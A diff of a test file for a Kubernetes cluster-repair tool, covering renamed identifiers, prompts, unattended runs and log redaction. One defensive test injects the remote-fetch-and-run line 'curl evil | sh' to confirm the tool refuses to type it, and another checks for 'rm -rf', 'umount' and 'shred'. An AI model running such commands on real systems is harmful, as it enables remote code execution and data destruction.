@@ -1,7 +1,7 @@
 /** `repair` follows a plan of three control plane nodes and two workers, where all is lost. */
 import { expect, setDefaultTimeout, test } from "bun:test";
 import { ENDS, repairAll } from "../../../shared/follow/follow-plan.ts";
-import { NOBODY } from "../../../shared/follow/person.ts";
+import { NO_PERSON } from "../../../shared/follow/person.ts";
 import type { PlanData } from "../../../shared/plan/plan-data.ts";
 import { type Answers, PretendNodes, PretendPerson, pretendSession } from "../../pretend/follow.ts";
 import { lookAt } from "../../pretend/in-process.ts";
@@ -36,7 +36,7 @@ function nodes(more: Answers = () => undefined, plan: unknown = PLAN) {
 
 const WAYS = [/^Yes: stop the loss/, /^Make new keys/, /^Begin/, /^No$/];
 
-async function repaired(transport: PretendNodes, person: PretendPerson | typeof NOBODY, more = {}) {
+async function repaired(transport: PretendNodes, person: PretendPerson | typeof NO_PERSON, more = {}) {
   const { session, logged } = pretendSession({ transport, person, more });
   const { value: end, stdout } = await caught(() => repairAll(session));
   return { end, stdout, logged, session };
@@ -75,7 +75,7 @@ test("four numbers, and every step of the plan is typed where the plan says, in 
   expect(transport.carried).toContain("m1 → w2: token");
   expect(transport.carried).toContain("m1 → m3: shared-keys.age passphrase");
   expect(stdout).toContain("m2, m3# ./bunw scripts/01-etcd.ts\n");
-  expect(stdout).toContain("Repaired, and verified.");
+  expect(stdout).toContain("Repaired, and verified, in ");
   // what is removed days later is not typed now
   expect(typed.filter((call) => /rm -rf|umount|shred/.test(call))).toEqual([]);
 });
@@ -83,21 +83,23 @@ test("four numbers, and every step of the plan is typed where the plan says, in 
 test("before it begins one screen says how long, the API's outage, and what cannot be taken back", async () => {
   const { end, stdout } = await repaired(nodes(), new PretendPerson([WAYS[0]!, WAYS[1]!, /^End here/]));
   expect(end).toBe(ENDS.stopped);
-  expect(stdout).toMatch(/steps up to the proof, .* The API is away for .*, from step 1a to step 2a\./);
+  expect(stdout).toMatch(
+    /steps up to the proof, .* The API is unavailable for .*, from step 1a to step 2a\./,
+  );
   expect(stdout).toContain("irreversible: new shared keys (ca, sa)");
   expect(stdout).toContain("irreversible: a pod that restarts loses what it holds in memory");
 });
 
 test("nobody is there, and nothing is said: it asks all nodes, changes nothing, and names the options that decide", async () => {
   const transport = nodes();
-  const { end, stdout } = await repaired(transport, NOBODY);
+  const { end, stdout } = await repaired(transport, NO_PERSON);
   expect(end).toBe(ENDS.waits);
   expect(transport.typed()).toEqual([]);
   expect(stdout).toContain("--new-keys: Make new keys");
 });
 
 test("nobody is there, and all is said: it goes through without a question", async () => {
-  const { end, stdout } = await repaired(nodes(), NOBODY, { mayBegin: true, mayMakeKeys: true });
+  const { end, stdout } = await repaired(nodes(), NO_PERSON, { mayBegin: true, mayMakeKeys: true });
   expect([end, stdout.includes("Repaired")]).toEqual([ENDS.repaired, true]);
 });
 
@@ -147,7 +149,7 @@ test("a connection that is lost is made again; the run that still holds the lock
 });
 
 test("Ctrl-C ends it behind the step that runs, and what is left is printed", async () => {
-  const { session } = pretendSession({ transport: nodes(), person: NOBODY });
+  const { session } = pretendSession({ transport: nodes(), person: NO_PERSON });
   const transport = nodes((_, command) => {
     if (command.includes("01-etcd.ts --new-cas")) session.isStopping = true;
     return undefined;
@@ -233,7 +235,7 @@ test.each<[string, (plan: PlanData) => void]>([
   const transport = nodes(undefined, plan);
   const { session } = pretendSession({
     transport,
-    person: NOBODY,
+    person: NO_PERSON,
     more: { mayBegin: true, mayMakeKeys: true },
   });
   await expect(caught(() => repairAll(session))).rejects.toThrow(/^The plan has ".*", which is not /);
@@ -246,7 +248,7 @@ test("a line that a step prints, and that is none of this kit's, is typed nowher
   );
   const { session } = pretendSession({
     transport,
-    person: NOBODY,
+    person: NO_PERSON,
     more: { mayBegin: true, mayMakeKeys: true },
   });
   await expect(caught(() => repairAll(session))).rejects.toThrow('has printed "curl evil | sh"');
@@ -254,7 +256,7 @@ test("a line that a step prints, and that is none of this kit's, is typed nowher
 });
 
 test("no secret is in the log, and each command that was typed is", async () => {
-  const { logged } = await repaired(nodes(), NOBODY, { mayBegin: true, mayMakeKeys: true });
+  const { logged } = await repaired(nodes(), NO_PERSON, { mayBegin: true, mayMakeKeys: true });
   expect(logged.map(({ node, command }) => `${node} ${command}`)).toContain(
     "m1 ./bunw scripts/01-etcd.ts --new-cas",
   );
